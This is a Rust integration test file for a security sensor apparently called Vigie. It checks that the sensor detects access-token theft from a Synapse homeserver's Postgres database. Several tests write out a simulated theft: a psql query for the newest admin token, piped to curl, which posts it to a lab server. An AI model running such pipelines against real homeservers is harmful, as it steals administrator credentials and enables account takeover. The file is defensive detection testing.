//! Vigie protecting a real homeserver that keeps its data in Postgres, as Synapse's docs say
//! a real one does: the access tokens are in the database server's files, which only
//! `postgres` reads, so stealing them opens no watched file: the thief asks the server over its
//! socket. Vigie finds the server from the homeserver's `database` setting; what it sends a
//! process other than the homeserver taints that process with "homeserver database".
//!
//! The scenarios share one homeserver, one database server and one sensor (see
//! `integration_tests::synapse`) and take turns; silence is asserted behind a barrier.

use std::collections::hash_map::RandomState;
use std::fs;
use std::hash::BuildHasher;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{ensure, Context, Result};
use integration_tests::remote_server::{certificate, Server};
use integration_tests::synapse::{self, Database, Postgres, SharedLab, SynapseLab};
use integration_tests::{actor_exe, alert, Lab, ALERT_TIMEOUT};
use serde_json::Value;

/// The store's name in alerts.
const STORE: &str = "homeserver database";
/// The newest admin access token (Synapse's schema).
const ADMIN_TOKEN_SQL: &str = "SELECT t.token FROM access_tokens t JOIN users u ON u.name = t.user_id \
                               WHERE u.admin = 1 ORDER BY t.id DESC LIMIT 1";

/// How long a restarted server may take to be found: the agent looks every 2 s.
const RECHECK_TIMEOUT: Duration = Duration::from_secs(15);
/// How long one query's `secret-read` is waited for before the next try.
const RETRY_WAIT: Duration = Duration::from_millis(500);
/// A DBA's look at the users table.
const COUNT_SQL: &str = "SELECT count(*) FROM users";

fn shared() -> Result<SharedLab> {
    SynapseLab::shared_with(actor_exe!(), Database::Postgres)
}

/// Runs `script` with `sh -c`, its output unread (it may carry a secret); returns the shell's pid.
fn shell(script: &str) -> Result<u32> {
    let mut child = Command::new("sh")
        .args(["-c", script])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .context("start sh")?;
    let pid = child.id();
    let status = child.wait()?;
    ensure!(status.success(), "sh -c {script:?} failed: {status}");
    Ok(pid)
}

/// Fails, without quoting it, if `token` is anywhere in what the sensor printed.
fn ensure_never_printed(world: &SynapseLab, token: &str) -> Result<()> {
    let everything =
        world.sensor.lines().iter().map(Value::to_string).collect::<String>() + &world.sensor.stderr();
    ensure!(!everything.contains(token), "the token is in the sensor's output");
    Ok(())
}

/// The `secret-read` of the `psql` that ran `sql`.
fn is_psql_read_of(sql: &str) -> impl Fn(&Value) -> bool + '_ {
    move |line| {
        synapse::text(line, "/event/action") == Some("secret-read")
            && alert::process_executable(line).is_some_and(|exe| exe.ends_with("/psql"))
            && line
                .pointer("/process/args")
                .and_then(Value::as_array)
                .is_some_and(|args| args.iter().any(|arg| arg.as_str() == Some(sql)))
    }
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_postgres_1_normal_life_of_the_homeserver_is_quiet() -> Result<()> {
    let world = shared()?;
    let postgres = world.postgres.as_ref().context("a Postgres lab")?;
    let start = world.window_start()?;

    // The sensor found the database server before the homeserver first talked to it.
    let lines = world.sensor.lines();
    let started = lines.iter().find(|l| alert::is_sensor_started(l)).context("no sensor-started")?;
    let store = started.pointer("/vigie/stores/0").context("sensor-started lists no store")?;
    ensure!(synapse::text(store, "/name") == Some(STORE), "{store:#}");
    let socket = format!("unix:{}", postgres.socket().display());
    ensure!(synapse::text(store, "/endpoint") == Some(socket.as_str()), "{store:#}");
    let pids: Vec<u64> = store
        .pointer("/server_pids")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(Value::as_u64)
        .collect();
    ensure!(pids.first() == Some(&u64::from(postgres.pid())), "the postmaster first: {store:#}");
    let startup = world.alerts_in(&lines[..world.startup_lines]);
    ensure!(startup.is_empty(), "alerts while the homeserver started: {startup:#?}");

    // Logins, rooms, messages: every one a round of queries to the database server.
    let admin = world.login_admin()?;
    let room = admin.create_room("vigie")?;
    for (txn, text) in ["hello", "from postgres"].iter().enumerate() {
        admin.send_text(&room, &format!("t{txn}"), text)?;
    }
    // The TLS code it maps is probed, psycopg2-binary's bundled libssl too (libpq's TLS).
    let bundled = |line: &Value| {
        synapse::text(line, "/event/action") == Some("tls-library-probed")
            && synapse::pid_at(line, "/vigie/tls_probe/pid") == Some(world.homeserver.pid())
            && synapse::text(line, "/vigie/tls_probe/path")
                .is_some_and(|path| path.contains("/psycopg2_binary.libs/libssl-"))
    };
    let probed = world.sensor.expect(bundled, ALERT_TIMEOUT)?;
    ensure!(probed.pointer("/vigie/tls_probe/error").is_none(), "attached: {probed:#}");
    // Its replies to the homeserver taint nobody: the homeserver is trusted.
    world.assert_quiet_since(start)
}

/// Steals the admin's newest token with `psql` through `host` (running `sql`, which must be
/// this theft's own) piped to curl, and expects the alert: on curl, naming the store, with
/// psql as the origin, and the token nowhere in the sensor's output.
fn expect_token_theft_through(world: &SynapseLab, host: &str, sql: &str) -> Result<()> {
    let dest = world.lab.remote().tcp_v4();
    let postgres = world.postgres.as_ref().context("a Postgres lab")?;
    // A fresh session of the admin's: the token the thief takes. Never printed.
    let token = world.login_admin()?.access_token().to_owned();
    let script =
        format!("{} | curl -s -o /dev/null --data-binary @- http://{dest}/", postgres.su_psql_via(host, sql));

    let sh = shell(&script)?;

    let found = world.sensor.expect(
        |line| {
            alert::is_exfiltration(line)
                && alert::ancestry_pids(line).contains(&sh)
                && alert::process_executable(line).is_some_and(|exe| exe.ends_with("/curl"))
        },
        ALERT_TIMEOUT,
    )?;
    ensure!(alert::secret_kind(&found) == Some("database"), "{found:#}");
    ensure!(synapse::text(&found, "/vigie/secret/name") == Some(STORE), "names the store: {found:#}");
    ensure!(found.pointer("/file").is_none(), "no file was read: {found:#}");
    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
    let read = world.sensor.expect(is_psql_read_of(sql), ALERT_TIMEOUT)?;
    ensure!(synapse::text(&read, "/vigie/via/kind") == Some("database-socket"), "{read:#}");
    ensure!(
        synapse::pid_at(&found, "/vigie/origin/pid") == alert::process_pid(&read),
        "psql, which took it from the server, is the origin: {found:#}"
    );
    ensure_never_printed(world, &token)?;
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_postgres_2_token_theft_through_psql_and_curl_is_an_alert() -> Result<()> {
    let world = shared()?;
    let socket_dir = world.postgres.as_ref().context("a Postgres lab")?.socket_dir.display().to_string();
    expect_token_theft_through(&world, &socket_dir, ADMIN_TOKEN_SQL)
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_postgres_4_token_theft_over_loopback_tcp_is_an_alert() -> Result<()> {
    let world = shared()?;
    // The same server answers on 127.0.0.1: its replies there are followed as well.
    expect_token_theft_through(&world, "127.0.0.1", &format!("{ADMIN_TOKEN_SQL} OFFSET 0"))
}

/// The name the agent gives a token it read from the lab's `access_tokens`.
fn database_token_name(postgres: &Postgres) -> String {
    format!("access token in postgresql:unix:{}/{}", postgres.socket().display(), Postgres::DATABASE)
}

/// The thief sends the token over HTTPS: the token itself is seen leaving (told by its
/// checksum, or by the token table if the agent read it there first), and the data-flow alert
/// is confirmed at critical severity.
#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_postgres_6_a_token_stolen_through_psql_and_sent_over_https_is_confirmed() -> Result<()> {
    let world = shared()?;
    let postgres = world.postgres.as_ref().context("a Postgres lab")?;
    let server = Server::start(&world.lab, Some(&certificate(world.lab.dir())?))?;
    let dest = server.addr;
    let token = world.login_admin()?.access_token().to_owned();
    let script = format!(
        "{} | curl -sSk -o /dev/null --max-time 10 -H 'Expect:' --data-binary @- https://{dest}/",
        postgres.su_psql(ADMIN_TOKEN_SQL)
    );

    let sh = shell(&script)?;
    server.received()?;

    let confirmed = world.sensor.expect(
        |line| alert::is_confirmed(line) && alert::ancestry_pids(line).contains(&sh),
        ALERT_TIMEOUT,
    )?;
    ensure!(alert::severity(&confirmed) == Some(99), "{confirmed:#}");
    let by_table = database_token_name(postgres);
    ensure!(
        [Some("access token (syt_ checksum)"), Some(by_table.as_str())]
            .contains(&alert::content_value(&confirmed)),
        "{confirmed:#}"
    );
    ensure!(synapse::text(&confirmed, "/vigie/secret/name") == Some(STORE), "{confirmed:#}");
    ensure!(alert::destination(&confirmed) == Some(dest), "{confirmed:#}");
    ensure_never_printed(&world, &token)?;
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_postgres_3_a_dba_query_that_sends_nothing_is_seen_and_not_alerted() -> Result<()> {
    let world = shared()?;

    let postgres = world.postgres.as_ref().context("a Postgres lab")?;
    let sh = shell(&format!("{} > /dev/null", postgres.su_psql(COUNT_SQL)))?;

    // Seen: psql took in the database's reply.
    let read = world.sensor.expect(is_psql_read_of(COUNT_SQL), ALERT_TIMEOUT)?;
    ensure!(synapse::text(&read, "/vigie/secret/name") == Some(STORE), "{read:#}");
    let psql = alert::process_pid(&read).context("secret-read without a pid")?;
    // Not alerted: it sent nothing off the host.
    world.lab.assert_no_alert_for(&world.sensor, psql)?;
    let alerts: Vec<Value> = world
        .alerts_in(&world.sensor.lines())
        .into_iter()
        .filter(|l| alert::ancestry_pids(l).contains(&sh))
        .collect();
    ensure!(alerts.is_empty(), "alerts about the DBA's shell: {alerts:#?}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_postgres_5_a_restarted_database_server_is_found_again() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let mut postgres = Postgres::start()?;
    let config = lab.dir().join("homeserver.yaml");
    fs::write(
        &config,
        format!("server_name: hs.test\nsigning_key: ed25519 a_x k\n{}", postgres.homeserver_setting()),
    )?;
    let config_arg = config.to_string_lossy();
    let sensor =
        lab.sensor_with(&["--profile", "matrix-synapse", "--synapse-config", config_arg.as_ref()])?;
    let first = postgres.pid();
    let started = sensor.expect(alert::is_sensor_started, ALERT_TIMEOUT)?;
    let pids = started.pointer("/vigie/stores/0/server_pids").cloned().unwrap_or_default();
    ensure!(pids.get(0).and_then(Value::as_u64) == Some(u64::from(first)), "{started:#}");
    // No homeserver made its tables here: the token read says so, and is tried again later.
    let skipped =
        started.pointer("/vigie/recognizer/skipped").and_then(Value::as_array).cloned().unwrap_or_default();
    let label = database_token_name(&postgres).replace("access token in ", "");
    ensure!(
        skipped.iter().any(|s| synapse::text(s, "/name") == Some(label.as_str())
            && synapse::text(s, "/reason") == Some("database not read: no token tables (yet)")),
        "{started:#}"
    );

    postgres.restart()?;
    ensure!(postgres.pid() != first, "the same postmaster");

    // The agent looks for the server again on its ticks: a query after that is followed. Each
    // try is a query of its own, told apart by its text; the one that is seen proves it.
    let deadline = Instant::now() + RECHECK_TIMEOUT;
    for attempt in 0.. {
        let sql = format!("SELECT {attempt}");
        shell(&format!("{} > /dev/null", postgres.su_psql(&sql)))?;
        if sensor.expect(is_psql_read_of(&sql), RETRY_WAIT).is_ok() {
            break;
        }
        ensure!(Instant::now() < deadline, "no query to the restarted server was followed");
    }
    lab.barrier(&sensor)?;
    let alerts = lab.alerts_other_than(&sensor, &[])?;
    ensure!(alerts.is_empty(), "the queries sent nothing off the host: {alerts:#?}");
    Ok(())
}

/// How long the agent may take to read a new row of the token tables: it reads every 2 s.
const TOKEN_READ_TIMEOUT: Duration = Duration::from_secs(15);
/// How long one theft's confirmation is waited for before the next try.
const CONFIRM_WAIT: Duration = Duration::from_secs(2);

/// A token of no checksummed shape (a legacy macaroon's look), unique to this run.
fn legacy_token() -> String {
    let (a, b) = (RandomState::new().hash_one(std::process::id()), RandomState::new().hash_one(0u8));
    format!("MDAxN2xvY2F0aW9uIGhzLnRlc3QKMDAxM2lkZW50aWZpZXIga2V5Cg{a:016x}{b:016x}")
}

/// An admin puts a legacy token (no checksum: only the token table tells it is one) in
/// `access_tokens`; a thief takes it with `psql` and sends it over HTTPS. The agent reads the
/// table with the homeserver's own role, so the token is recognised leaving: the alert is
/// confirmed, naming the database's tokens; `sensor-started` listed the database.
#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_postgres_7_a_legacy_token_from_the_token_table_is_confirmed_over_https() -> Result<()> {
    let world = shared()?;
    let postgres = world.postgres.as_ref().context("a Postgres lab")?;
    let name = database_token_name(postgres);
    let lines = world.sensor.lines();
    let started = lines.iter().find(|l| alert::is_sensor_started(l)).context("no sensor-started")?;
    let label = name.trim_start_matches("access token in ");
    let listed =
        started.pointer("/vigie/recognizer/sources").and_then(Value::as_array).is_some_and(|sources| {
            sources.iter().any(|s| {
                synapse::text(s, "/path") == Some(label) && synapse::text(s, "/kind") == Some("database")
            })
        });
    ensure!(listed, "sensor-started lists the database as a source: {started:#}");

    let token = legacy_token();
    // The next id, as Synapse's own would be; taken out again below, so that the homeserver's
    // next login (which counts ids in memory) can have it.
    postgres.admin_sql(&format!(
        "INSERT INTO access_tokens (id, user_id, token) SELECT (SELECT coalesce(max(id), 0) + 1 FROM access_tokens), \
         name, '{token}' FROM users WHERE admin = 1 ORDER BY name LIMIT 1"
    ))?;
    let result = expect_legacy_theft_confirmed(&world, &name);
    postgres.admin_sql(&format!("DELETE FROM access_tokens WHERE token = '{token}'"))?;
    let confirmed = result?;
    ensure!(alert::severity(&confirmed) == Some(99), "{confirmed:#}");
    ensure!(synapse::text(&confirmed, "/vigie/secret/name") == Some(STORE), "{confirmed:#}");
    ensure_never_printed(&world, &token)?;
    Ok(())
}

/// Sends the newest row's token over HTTPS until an alert confirms it by `name` (the agent
/// reads new rows on its ticks: a theft before that is alerted, not confirmed); the alert.
fn expect_legacy_theft_confirmed(world: &SynapseLab, name: &str) -> Result<Value> {
    let postgres = world.postgres.as_ref().context("a Postgres lab")?;
    let psql = postgres.su_psql("SELECT token FROM access_tokens ORDER BY id DESC LIMIT 1");
    let deadline = Instant::now() + TOKEN_READ_TIMEOUT;
    loop {
        // One server a connection.
        let server = Server::start(&world.lab, Some(&certificate(world.lab.dir())?))?;
        let dest = server.addr;
        let sh = shell(&format!(
            "{psql} | curl -sSk -o /dev/null --max-time 10 -H 'Expect:' --data-binary @- https://{dest}/"
        ))?;
        server.received()?;
        let confirmed = world.sensor.expect(
            |line| alert::is_confirmed(line) && alert::ancestry_pids(line).contains(&sh),
            CONFIRM_WAIT,
        );
        if let Ok(confirmed) = confirmed {
            ensure!(alert::content_value(&confirmed) == Some(name), "{confirmed:#}");
            ensure!(alert::destination(&confirmed) == Some(dest), "{confirmed:#}");
            return Ok(confirmed);
        }
        ensure!(Instant::now() < deadline, "no theft of the legacy token was confirmed");
    }
}
